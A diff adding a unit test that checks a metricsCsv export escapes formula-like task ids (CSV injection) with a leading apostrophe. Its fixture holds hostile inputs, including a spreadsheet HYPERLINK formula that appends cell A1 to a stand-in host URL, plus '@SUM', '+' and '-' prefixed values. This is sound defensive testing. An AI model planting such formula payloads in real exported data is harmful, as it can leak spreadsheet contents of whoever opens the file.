@@ -36,3 +36,16 @@ describe('metricsCsv', () => {
     expect(row).toBe('1,,,1,0.5,1');
   });
 });
+
+describe('metricsCsv with task ids from a hostile link or file', () => {
+  it('writes formula-like ids as plain text', () => {
+    const evil = ['=HYPERLINK("http://x.test/?"&A1,"click")', '@SUM(A1)', '+1+1', '-1+1'].map((id) => ({ id, name: id, kind: 'regression', classes: 1 }) as TaskSpec);
+    const header = metricsCsv(evil, []).split('\n')[0];
+    // Split on the commas outside quotes: no header cell may start with a formula character.
+    const cells = header.match(/("([^"]|"")*"|[^,]*)(,|$)/g)!.map((c) => c.replace(/,$/, '').replace(/^"|"$/g, '')).filter(Boolean);
+    expect(cells.length).toBe(2 + 4 * evil.length);
+    for (const c of cells) expect(c, c).not.toMatch(/^[=+\-@\t\r]/);
+    expect(header).toContain(`"'=HYPERLINK(""http://x.test/?""&A1,""click"")_train_loss"`);
+    expect(header).toContain("'@SUM(A1)_val_loss");
+  });
+});
